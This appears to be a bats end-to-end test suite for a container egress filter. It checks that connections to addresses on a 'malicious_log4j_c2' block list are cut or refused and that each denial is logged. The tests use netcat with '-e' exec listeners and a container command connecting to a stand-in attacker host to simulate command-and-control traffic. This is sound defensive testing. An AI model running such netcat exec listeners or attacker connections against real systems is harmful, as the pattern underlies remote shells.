#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# What no connect(2) of the container asks for: connections that are older than
# the list, and those a listed peer makes.

load ../e2e/story

setup_file() {
  story_open
  mkfifo -m 0666 "$ROOTFS/tmp/words"
  # Answers, and keeps its connections.
  spawn "$SCRATCH/peer.err" nsenter --net="$SCRATCH/netns/outside" -- \
    "$ROOTFS/bin/busybox" nc -ll -p 1390 -e cat
  listener_at outside 1390
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() { story_quiet; }

# A service whose list has, besides what the demo lists, ADDRESS...
service_listing() {
  cp "$SCRATCH/rules/log4j.rules.yaml" "$SCRATCH/rules/listing.rules.yaml"
  list "$@"
  RULES="[$SCRATCH/rules/listing.rules.yaml, $SCRATCH/rules/added.rules.yaml]" \
    service "$REFUSE_POLICY"
}

list() {
  local IFS=,
  printf '%s\n' '- list: malicious_log4j_c2' "  items: [$*]" \
    '  override: {items: append}' >"$SCRATCH/rules/added.rules.yaml"
}

arrived_at_attacker() { (($(attacker_packets) > 0)); }

@test "a connection that is older than the list is cut, and that is told" {
  service_listing 198.51.100.77
  contained_detached older sh -c "nc $ATTACKER4 1390 </tmp/words"
  exec 9>"$ROOTFS/tmp/words"
  echo before >&9
  wait_until 10 "words to arrive" arrived_at_attacker
  list 198.51.100.77 "$ATTACKER4"
  bailiff_api reload
  attacker_forget_packets
  echo after >&9
  event "$C2_RULE" '.bailiff.hook == "egress" and .bailiff.verdict == "denied"
    and .bailiff.container.id == "older"
    and .output_fields["proc.cmdline"] == null'
  (($(attacker_packets) == 0))
  # What is still to be sent would be when the container is gone.
  in_netns inside ss --kill dst "$ATTACKER4"
  exec 9>&-
}

@test "a listed peer that connects by itself is not answered" {
  service_listing "$ATTACKER4"
  contained_detached server nc -ll -p 8080 -e cat
  listener_at inside 8080
  run ! asked_by "$ATTACKER4" "$SERVER4" 8080
  event "$C2_RULE" '.bailiff.hook == "egress" and .bailiff.verdict == "denied"
    and .bailiff.container.id == "server"'
  (($(attacker_packets) == 0))
}

@test "another peer that connects is answered" {
  service_listing "$ATTACKER4"
  contained_detached server nc -ll -p 8080 -e cat
  listener_at inside 8080
  run asked_by "$HARMLESS4" "$SERVER4" 8080
  says hello
}
